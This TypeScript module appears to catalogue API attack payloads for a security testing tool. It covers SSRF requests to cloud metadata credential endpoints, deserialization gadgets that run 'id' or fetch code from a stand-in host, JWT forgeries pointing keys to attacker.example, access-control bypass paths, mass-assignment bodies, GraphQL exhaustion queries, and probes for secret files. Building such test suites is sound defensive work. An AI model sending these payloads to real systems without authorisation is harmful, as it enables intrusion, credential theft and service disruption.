import type { PayloadSet } from './payload-set.ts';

/** Requests that a server is to send to itself, to its metadata service or to its neighbours. */
const requestForgery: PayloadSet = {
  severity: 'high',
  techniques: ['T1190'],
  payloads: [
    ...['http://127.0.0.1/admin', 'http://localhost:22/', 'http://[::1]/server-status', 'http://0x7f000001/'],
    ...['http://2130706433/', 'http://0177.0.0.1/', 'http://127.1:8080/', 'https://localhost:6443/api'],
    'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
    'http://169.254.169.254/computeMetadata/v1/?recursive=true',
    'http://169.254.169.254/metadata/instance?api-version=2021-02-01',
    ...['http://[::ffff:169.254.169.254]/', 'http://127.0.0.1:2375/containers/json', 'http://127.0.0.1:9200/_cat'],
    ...['gopher://127.0.0.1:6379/_INFO', 'dict://127.0.0.1:11211/stats', 'ldap://127.0.0.1:389/', 'tftp://127.0.0.1/x'],
    ...['sftp://127.0.0.1:22/', 'netdoc:///etc/passwd', 'jar:http://127.0.0.1/a.jar!/', 'http://site.test@127.0.0.1/'],
    ...['http://127.0.0.1%23.site.test/', 'http://127.0.0.1.site.test/', 'http://oob.test/redirect?to=127.0.0.1'],
  ],
};

/** Objects that run code when they are read back. They name commands without effect. */
const deserialization: PayloadSet = {
  severity: 'critical',
  techniques: ['T1190'],
  payloads: [
    ...['rO0ABXNyABFqYXZhLnV0aWwuSGFzaFNldA==', 'aced0005737200116a6176612e7574696c2e48617368536574'],
    'rO0ABXNyAC5vcmcuYXBhY2hlLmNvbW1vbnMuY29sbGVjdGlvbnMuZnVuY3RvcnM=',
    'O:8:"stdClass":1:{s:4:"exec";s:2:"id";}',
    'a:1:{i:0;O:3:"Foo":1:{s:3:"cmd";s:2:"id";}}',
    'O:+8:"stdClass":0:{}',
    'C:11:"ArrayObject":21:{x:i:0;a:0:{};m:a:0:{}}',
    ...['AAEAAAD/////AQAAAAAAAAAMAgAAAElTeXN0ZW0=', '/wEyxBEAAQAAAP////8BAAAAAAAAAAwCAAAA'],
    '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start"}',
    '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://oob.test/a","autoCommit":true}',
    '["org.springframework.context.support.ClassPathXmlApplicationContext","http://oob.test/a.xml"]',
    "cos\nsystem\n(S'id'\ntR.",
    'gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==',
    '!!python/object/apply:os.system ["id"]',
    '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://oob.test/"]]]]',
    '--- !ruby/object:Gem::Installer\ni: x',
    '{"rce":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'id\')}()"}',
    '<java version="1.8" class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder"/></java>',
    '<map><entry><jdk.nashorn.internal.objects.NativeString/></entry></map>',
  ],
};

const tokenPart = (value: object) => Buffer.from(JSON.stringify(value)).toString('base64url');
const token = (head: object, claims: object, signature = '') =>
  `${tokenPart(head)}.${tokenPart(claims)}.${signature && Buffer.from(signature).toString('base64url')}`;
const admin = { sub: '1', role: 'admin' };

/** Tokens that a careful server refuses: unsigned, with a key of the sender, or out of date. */
const brokenAuthentication: PayloadSet = {
  severity: 'high',
  techniques: ['T1550.001'],
  payloads: [
    ...['none', 'None', 'NONE', 'nOnE', ''].map((alg) => token({ alg, typ: 'JWT' }, admin)),
    token({ typ: 'JWT' }, admin),
    token({ alg: 'HS256', typ: 'JWT', kid: '../../../../dev/null' }, admin, 'x'),
    token({ alg: 'HS256', typ: 'JWT', kid: "x' UNION SELECT 'key'-- -" }, admin, 'x'),
    token({ alg: 'HS256', typ: 'JWT', kid: '/etc/hostname|id' }, admin, 'x'),
    token({ alg: 'RS256', jku: 'http://attacker.example/k' }, admin, 'x'),
    token({ alg: 'RS256', x5u: 'http://attacker.example/c' }, admin, 'x'),
    token({ alg: 'HS256', jwk: { kty: 'oct', k: 'eA' } }, admin, 'x'),
    token({ alg: 'RS256', typ: 'JWT' }, admin),
    token({ alg: 'HS256', typ: 'JWT' }, { ...admin, exp: 1 }, 'x'),
    token({ alg: 'HS256', typ: 'JWT' }, { ...admin, nbf: 9_999_999_999 }, 'x'),
    ...['null', 'undefined', 'admin', 'eyJhbGciOiJub25lIn0..', '00000000-0000-0000-0000-000000000000'],
  ],
};

const accessControl: PayloadSet = {
  severity: 'high',
  techniques: ['T1190'],
  payloads: [
    ...['api/v1/users/1/../2', 'api/v1/users/me/..%2f2', 'api/v1/users/*', 'api/v1/users/%2e%2e/admins'],
    ...['api/v1/orders/1%00', 'api/v1/orders/1,2,3', 'api/v1/orders/-1', 'api/v1/orders/1?user_id=2&user_id=1'],
    ...[
      'api/v1/admin/users',
      'API/V1/ADMIN/USERS',
      'api/v1//admin/users',
      'api/v1/./admin/users',
      'api/v1/admin/users/.',
    ],
    ...['api/v1/public/..;/admin/users', 'api/v1/users;admin=true', 'api/v1/admin%2fusers', 'api/v1/%61dmin/users'],
    ...[
      'api/v1/users?role=admin',
      'api/v1/users/export?all=true',
      'api/v1/users.json?is_admin=1',
      'internal/api/users',
    ],
  ],
};

/** Members that a client is not to set. */
const massAssignment: PayloadSet = {
  severity: 'high',
  techniques: ['T1190'],
  payloads: [
    ...['{"name":"x","role":"admin"}', '{"name":"x","isAdmin":true}', '{"name":"x","is_admin":1,"admin":"true"}'],
    ...['{"user":{"name":"x","roles":["admin","root"]}}', '{"id":1,"owner_id":2}', '{"name":"x","permissions":["*"]}'],
    ...['{"order":{"id":7,"price":0}}', '{"balance":1000000}', '{"amount":-100}', '{"discount":100,"paid":true}'],
    ...['{"email":"x@site.test","email_verified":true}', '{"password_hash":"x"}', '{"tenant":"other","plan":"free"}'],
    ...['{"__proto__":{"isAdmin":true}}', '{"constructor":{"prototype":{"isAdmin":true}}}'],
    ...['{"name":"x","name":"y","role":"admin"}', '{"$set":{"role":"admin"}}', '{"created_at":"1970-01-01","id":0}'],
  ],
};

const nested = (open: string, close: string, depth: number) => `${open.repeat(depth)}id${close.repeat(depth)}`;
const listed = (count: number, at: (n: number) => string) => Array.from({ length: count }, (_, n) => at(n)).join(' ');

/** Queries that are short to send and long to answer. */
const resourceConsumption: PayloadSet = {
  severity: 'medium',
  techniques: ['T1499.003'],
  payloads: [
    ...[10, 15, 20].map((depth) => `{${nested('node{', '}', depth)}}`),
    `{${nested('friends{edges{node{', '}}}', 6)}}`,
    ...[5, 10, 14].map((count) => `{${listed(count, (n) => `a${n}:users{id}`)}}`),
    `mutation{${listed(4, (n) => `m${n}:login(user:"admin",password:"${n}"){token}`)}}`,
    ...['{users(first:2147483647){id}}', '{users(limit:1000000,offset:-1){id}}', `{${'__typename '.repeat(16)}}`],
    ...['query a{...f}fragment f on Q{...g}fragment g on Q{...f}', `{user${'@include(if:true)'.repeat(10)}{id}}`],
  ],
};

/** What a server shows that is not meant for visitors, and versions of interfaces that should be gone. */
const exposedResources: PayloadSet = {
  severity: 'medium',
  techniques: ['T1595.003'],
  payloads: [
    ...['.git/config', '.svn/entries', '.env', '.htpasswd', '.aws/credentials', '.ssh/id_rsa', '.DS_Store'],
    ...['wp-config.php.bak', 'backup.sql', 'web.config', 'WEB-INF/web.xml', 'phpinfo.php', 'server-status'],
    ...['actuator/env', 'actuator/heapdump', 'metrics', 'debug/pprof/heap', 'console/', 'elmah.axd', 'trace.axd'],
    ...['swagger.json', 'swagger-ui.html', 'openapi.json', 'api-docs', 'v2/api-docs', 'graphiql', 'api/swagger.yaml'],
    ...[
      'api/v0/users',
      'api/beta/users',
      'api/old/users',
      'api/v1.0-dev/users',
      'api/test/users',
      'api/internal/health',
    ],
  ],
};

/** Attacks on interfaces for programs, beside those that are injected. */
export const apiPayloadSets = {
  ssrf: requestForgery,
  deserialization,
  'broken-authentication': brokenAuthentication,
  'access-control': accessControl,
  'mass-assignment': massAssignment,
  'resource-consumption': resourceConsumption,
  'exposed-resources': exposedResources,
};
